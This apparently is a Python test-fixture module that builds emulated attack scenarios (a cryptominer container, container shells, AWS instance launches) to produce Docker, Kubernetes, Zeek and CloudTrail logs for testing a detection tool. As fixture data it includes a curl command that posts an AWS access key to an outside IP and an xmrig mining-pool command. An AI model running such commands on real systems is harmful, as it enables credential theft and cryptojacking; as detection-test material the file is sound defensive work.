"""Hand-built scenarios for the infrastructure writers (docker, k8s, zeek, cloudtrail).

A Docker host that pulls and runs a miner image (entry xmrig, which spawns a shell) and an
app container in which someone runs ``docker exec curl``; a Kubernetes node where a pod
runs xmrig and ``kubectl exec`` starts a shell and a curl; the network traffic of a host and
a container; and AWS calls by an IAM user and by an assumed role. Every value looks like
what a real system would have.
"""

from __future__ import annotations

from datetime import datetime
from typing import Any

from imagehunt.emulate.steps import (
    CloudCall,
    Connection,
    Container,
    ContainerStart,
    DnsLookup,
    Host,
    ImagePull,
    Process,
    ProcessStart,
    Step,
)
from support.emulate_common import Scenario, at

DOCKER_HOST = Host(name="build-07", ip="10.20.3.7")
NODE = Host(name="k8s-node-3", ip="10.20.2.23")
SHIM = "/usr/bin/containerd-shim-runc-v2"
POOL_IP = "51.15.69.136"
ACCOUNT = "734281960452"


def _in_container(
    container: Container, pid: int, ppid: int, args: tuple[str, ...], executable: str
) -> Process:
    return Process(
        pid=pid,
        ppid=ppid,
        executable=executable,
        args=args,
        parent_executable=SHIM,
        parent_args=(SHIM, "-namespace", "moby", "-id", container.id),
        container=container,
    )


# ---- Docker --------------------------------------------------------------------------------
MINER = Container(
    id="3f9d2c4b8a1e7f60d5c2b9a8e7f6d5c4b3a29180f7e6d5c4b3a2918070f6e5d4",
    name="dockerapi-17",
    image="alpineos/dockerapi:latest",
)
APP = Container(
    id="8b1c6e0f2a9d4b7c3e5f8a1d6c9b2e4f7a0d3c6b9e2f5a8d1c4b7e0a3f6c9d2e",
    name="shop-api",
    image="python:3.12-slim",
    env=("AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE",),
)
XMRIG_ARGS = ("/usr/local/bin/xmrig", "-o", "pool.minexmr.com:3333", "--donate-level", "1")
XMRIG = _in_container(MINER, 51377, 51342, XMRIG_ARGS, "/usr/local/bin/xmrig")
XMRIG_CHILD = Process(
    pid=51390,
    ppid=XMRIG.pid,
    executable="/bin/sh",
    args=("/bin/sh", "-c", "nproc"),
    parent_executable=XMRIG.executable,
    parent_args=XMRIG.args,
    container=MINER,
)
APP_ENTRY = _in_container(APP, 52001, 51990, ("python3", "-m", "http.server"), "/usr/bin/python3")
EXEC_CURL = _in_container(
    APP,
    52810,
    51990,
    ("curl", "-s", "-d", "key=AKIAIOSFODNN7EXAMPLE&x=1", "http://45.76.135.12:8080/c"),
    "/usr/bin/curl",
)
HOST_CURL = Process(
    pid=48211,
    ppid=48102,
    executable="/usr/bin/curl",
    args=("curl", "-fsS", "https://api.github.com/"),
    parent_executable="/usr/bin/bash",
    parent_args=("-bash",),
    user="deploy",
    uid=1001,
    cwd="/home/deploy",
)


def docker_scenario(seed: int = 7) -> Scenario:
    """Pull and run the miner (entry xmrig and its child), exec curl in the app container,
    plus steps Docker never sees (a host process, a connection, a lookup)."""
    steps: list[Step] = [
        ProcessStart(time=at(0), host=DOCKER_HOST, attack=False, process=HOST_CURL),
        ImagePull(at(10), DOCKER_HOST, True, MINER.image, "sha256:" + "ab" * 32),
        ContainerStart(at(12), DOCKER_HOST, True, MINER, XMRIG_ARGS, user="deploy"),
        ProcessStart(time=at(12.35), host=DOCKER_HOST, attack=True, process=XMRIG),
        ProcessStart(time=at(12.5), host=DOCKER_HOST, attack=True, process=XMRIG_CHILD),
        Connection(at(12.9), DOCKER_HOST, True, XMRIG, "172.17.0.2", 40112, POOL_IP, 3333),
        ContainerStart(at(20), DOCKER_HOST, False, APP, APP_ENTRY.args, user="deploy"),
        ProcessStart(time=at(20.3), host=DOCKER_HOST, attack=False, process=APP_ENTRY),
        ProcessStart(time=at(40), host=DOCKER_HOST, attack=True, process=EXEC_CURL),
    ]
    return Scenario(seed=seed, steps=tuple(steps))


# ---- Kubernetes ----------------------------------------------------------------------------
POD_MINER = Container(
    id="c41e0a9f3b7d2e8c6a5f1b4d9e7c3a2f8b6d0e4c1a9f7b3e5d2c8a6f0b4e9d1c",
    name="tomcat",
    image="docker123321/tomcat:latest",
    env=(
        "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
        "POOL=pool.minexmr.com:3333",
    ),
    runtime="containerd",
)
POD_NAME = "tomcat-7d9f8c6b5-x2k4p"
POD_XMRIG = _in_container(POD_MINER, 30211, 30190, XMRIG_ARGS, "/usr/local/bin/xmrig")
POD_SHELL = _in_container(POD_MINER, 30410, 30190, ("sh",), "/bin/sh")
POD_CURL = _in_container(
    POD_MINER,
    30455,
    30190,
    ("curl", "-s", "-d", "a=1&b=two words", "http://45.76.135.12:8080/c"),
    "/usr/bin/curl",
)
SERVICE_ACCOUNT = "system:serviceaccount:ci:deployer"


def k8s_scenario(seed: int = 7) -> Scenario:
    """A pod whose entry command is xmrig, then ``kubectl exec`` of a shell and of curl; a
    plain Docker container and an image pull the API server never sees."""
    steps: list[Step] = [
        ImagePull(at(1), NODE, True, POD_MINER.image),
        ContainerStart(
            at(5),
            NODE,
            True,
            POD_MINER,
            XMRIG_ARGS,
            user=SERVICE_ACCOUNT,
            namespace="ci",
            pod=POD_NAME,
        ),
        ProcessStart(time=at(5.4), host=NODE, attack=True, process=POD_XMRIG),
        ContainerStart(at(8), NODE, False, APP, APP_ENTRY.args, user="deploy"),
        ProcessStart(time=at(30), host=NODE, attack=True, process=POD_SHELL),
        ProcessStart(time=at(45), host=NODE, attack=True, process=POD_CURL),
    ]
    return Scenario(seed=seed, steps=tuple(steps))


# ---- network -------------------------------------------------------------------------------
LOOPBACK_PROBE = _in_container(
    APP, 52950, 51990, ("wget", "-q", "-O-", "http://localhost:8000/"), "/usr/bin/wget"
)


def network_scenario(seed: int = 7) -> Scenario:
    """A lookup and HTTPS session from the host, an unanswered pool connection, a refused
    one, an exfiltration from a container, a lookup without answer and loopback traffic."""
    steps: list[Step] = [
        ProcessStart(time=at(0), host=DOCKER_HOST, attack=False, process=HOST_CURL),
        DnsLookup(
            at(0.004),
            DOCKER_HOST,
            False,
            HOST_CURL,
            "api.github.com",
            ("140.82.121.6",),
            "10.20.0.2",
            41235,
            transaction_id=0x3A1F,
        ),
        Connection(
            at(0.031),
            DOCKER_HOST,
            False,
            HOST_CURL,
            DOCKER_HOST.ip,
            51522,
            "140.82.121.6",
            443,
            destination_name="api.github.com",
            outcome="established",
        ),
        DnsLookup(
            at(12.8),
            DOCKER_HOST,
            True,
            XMRIG,
            "pool.minexmr.com",
            (POOL_IP, "94.130.164.163"),
            "10.20.0.2",
            38001,
            transaction_id=4242,
        ),
        Connection(at(12.9), DOCKER_HOST, True, XMRIG, "172.17.0.2", 40112, POOL_IP, 3333),
        Connection(
            at(13.5),
            DOCKER_HOST,
            True,
            HOST_CURL,
            DOCKER_HOST.ip,
            40200,
            "10.20.8.6",
            9999,
            outcome="refused",
        ),
        Connection(
            at(40.2),
            DOCKER_HOST,
            True,
            EXEC_CURL,
            "172.17.0.3",
            45001,
            "45.76.135.12",
            8080,
            outcome="established",
        ),
        Connection(
            at(50),
            DOCKER_HOST,
            False,
            LOOPBACK_PROBE,
            "127.0.0.1",
            46000,
            "127.0.0.1",
            8000,
            outcome="established",
        ),
        DnsLookup(
            at(60),
            DOCKER_HOST,
            False,
            HOST_CURL,
            "no-such-host.corp.example",
            (),
            "10.20.0.2",
            51000,
        ),
    ]
    return Scenario(seed=seed, steps=tuple(steps))


# ---- AWS -----------------------------------------------------------------------------------
USER_ARN = f"arn:aws:iam::{ACCOUNT}:user/ci-deployer"
ROLE_ARN = f"arn:aws:sts::{ACCOUNT}:assumed-role/platform-deploy/gitlab-runner"
COMMUNITY_AMI = "ami-0b7e3f95c1d2a4e68"
CLI_AGENT = "aws-cli/2.17.20 md/awscrt#0.20.11 ua/2.0 os/linux#6.8.0 md/arch#x86_64"
BOTO_AGENT = "Boto3/1.35.40 md/Botocore#1.35.40 ua/2.0 os/linux#6.8.0 lang/python#3.12.7"
RUN_REQUEST_ID = "5f0b2c9e-1d4a-4b7e-9c3f-2a8d6e1b4c70"


def _call(when: datetime, name: str, *, role: bool, **extra: Any) -> CloudCall:
    return CloudCall(
        time=when,
        host=DOCKER_HOST,
        attack=not role,
        event_name=name,
        event_source="ec2.amazonaws.com",
        region="us-east-1",
        account_id=ACCOUNT,
        principal_arn=ROLE_ARN if role else USER_ARN,
        principal_type="AssumedRole" if role else "IAMUser",
        access_key_id="ASIAQ3EGV7TNXK2M5PLR" if role else "AKIAQ3EGV7TNBW4K6Z2H",
        source_ip="81.2.69.160",
        user_agent=BOTO_AGENT if role else CLI_AGENT,
        **extra,
    )


def cloud_scenario(seed: int = 7) -> Scenario:
    """A role describes images; a user launches a community AMI (request id only in the
    response), fails to launch GPU instances, then stops the instance; plus a host step."""
    instance = "i-0a1b2c3d4e5f60718"
    steps: list[Step] = [
        ProcessStart(time=at(0), host=DOCKER_HOST, attack=False, process=HOST_CURL),
        _call(
            at(1),
            "DescribeImages",
            role=True,
            request={"imagesSet": {"items": [{"imageId": COMMUNITY_AMI}]}},
            read_only=True,
            event_id="0c5e3a7b-9d21-4f6e-8a4c-3b7d1e9f2a60",
            request_id="b1e4d7a0-3c6f-4e92-8d5b-7a0c3f6e9b12",
        ),
        _call(
            at(2),
            "RunInstances",
            role=False,
            request={
                "instancesSet": {
                    "items": [{"imageId": COMMUNITY_AMI, "minCount": 1, "maxCount": 1}]
                },
                "instanceType": "t3.medium",
                "monitoring": {"enabled": False},
            },
            response={
                "requestId": RUN_REQUEST_ID,
                "reservationId": "r-0f1e2d3c4b5a69788",
                "ownerId": ACCOUNT,
                "instancesSet": {
                    "items": [
                        {
                            "instanceId": instance,
                            "imageId": COMMUNITY_AMI,
                            "instanceState": {"code": 0, "name": "pending"},
                        }
                    ]
                },
            },
        ),
        _call(
            at(3),
            "RunInstances",
            role=False,
            request={
                "instancesSet": {
                    "items": [{"imageId": COMMUNITY_AMI, "minCount": 1, "maxCount": 10}]
                },
                "instanceType": "p2.xlarge",
            },
            response={"should": "be dropped"},
            error_code="Client.UnauthorizedOperation",
            error_message="You are not authorized to perform this operation.",
        ),
        _call(
            at(240),
            "StopInstances",
            role=False,
            request={"instancesSet": {"items": [{"instanceId": instance}]}, "force": False},
            response={
                "requestId": "7c2e9a41-6b3d-4f80-a5e2-1d9c8b7a6f53",
                "instancesSet": {
                    "items": [
                        {
                            "instanceId": instance,
                            "currentState": {"code": 64, "name": "stopping"},
                            "previousState": {"code": 16, "name": "running"},
                        }
                    ]
                },
            },
            request_id="7c2e9a41-6b3d-4f80-a5e2-1d9c8b7a6f53",
        ),
    ]
    return Scenario(seed=seed, steps=tuple(steps))
